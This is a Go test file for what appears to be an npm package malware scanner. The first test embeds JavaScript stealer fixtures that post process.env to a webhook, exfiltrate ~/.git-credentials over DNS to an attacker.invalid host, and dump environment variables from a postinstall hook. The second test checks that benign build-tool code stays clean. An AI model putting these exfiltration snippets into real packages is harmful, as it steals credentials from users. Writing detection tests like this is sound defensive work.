package analyze

import "testing"

// Stealer shapes written for these tests; the endpoints are reserved or
// made-up names and nothing here is real malware.
func TestSecretsCombinations(t *testing.T) {
	cases := []struct {
		name    string
		files   map[string]string
		combo   string
		verdict Verdict
	}{
		{"env to webhook", map[string]string{
			"index.js": `const https = require('https');
const body = JSON.stringify(process.env);
https.request('https://webhook.site/00000000-test', {method: 'POST'}).end(body);`,
		}, "secrets-exfiltration", Malicious},
		{"npmrc over dns", map[string]string{
			"index.js": `const fs = require('fs'), os = require('os'), dns = require('dns');
const t = fs.readFileSync(os.homedir() + '/.git-credentials', 'utf8');
dns.lookup(Buffer.from(t).toString('hex').slice(0, 60) + '.' + os.hostname() + '.x.attacker.invalid', () => {});`,
		}, "secrets-exfiltration", Malicious},
		{"install-time env dump", map[string]string{
			"package.json": manifestJSON("helper", map[string]string{"postinstall": "node collect.js"}),
			"collect.js": `const https = require('https');
https.request('https://collector.vendor.invalid/c', {method: 'POST'}).end(JSON.stringify(process.env));`,
		}, "install-time-secrets-to-network", Malicious},
		{"env dump in library code, no endpoint", map[string]string{
			"lib/debug.js": `fetch('https://api.vendor.io/report', {method: 'POST', body: JSON.stringify(process.env)})`,
		}, "", Clean},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := analyzeFiles(t, c.files)
			found := false
			for _, reason := range r.Reasons {
				if reason.Source == "combination "+c.combo {
					found = true
				}
			}
			if (c.combo != "" && !found) || r.Verdict != c.verdict {
				t.Errorf("verdict %s score %d, want %s with %q; reasons %+v", r.Verdict, r.Score, c.verdict, c.combo, r.Reasons)
			}
		})
	}
}

// Ordinary process and network code of build tools stays clean (code in
// the style of execa, cross-spawn, esbuild's installer and dotenv,
// written for this test).
func TestExecAndNetworkToolsStayClean(t *testing.T) {
	for name, files := range map[string]map[string]string{
		"execa-like": {"index.js": `const childProcess = require('child_process');
module.exports = (file, args, opts) => { const sp = childProcess.spawn(file, args, {...opts, env: {...process.env, ...opts.env}}); return sp; };
module.exports.sync = (file, args) => childProcess.spawnSync(file, args);`},
		"esbuild-installer-like": {
			"package.json": manifestJSON("esbuild", map[string]string{"postinstall": "node install.js"}),
			"install.js": `const cp = require('child_process'); const https = require('https');
function fetchPkg(url) { return new Promise(r => https.get(url, r)); }
fetchPkg('https://registry.npmjs.org/@esbuild/linux-x64/-/linux-x64-0.25.0.tgz');
cp.execFileSync(process.execPath, [binPath, '--version']);`,
		},
		"dotenv-like": {"lib/main.js": `const fs = require('fs'), path = require('path'), os = require('os');
function _resolveHome(p) { return p[0] === '~' ? path.join(os.homedir(), p.slice(1)) : p; }
function populate(parsed) { for (const k of Object.keys(parsed)) { if (!Object.prototype.hasOwnProperty.call(process.env, k)) process.env[k] = parsed[k]; } }`},
		"daemon-launcher": {"lib/start.js": `const {spawn} = require('child_process');
const child = spawn(process.execPath, [script], {detached: true, stdio: 'ignore'}); child.unref();`},
	} {
		t.Run(name, func(t *testing.T) {
			r := analyzeFiles(t, files)
			if r.Verdict != Clean {
				t.Errorf("verdict %s (score %d), want clean; reasons %+v", r.Verdict, r.Score, r.Reasons)
			}
		})
	}
}
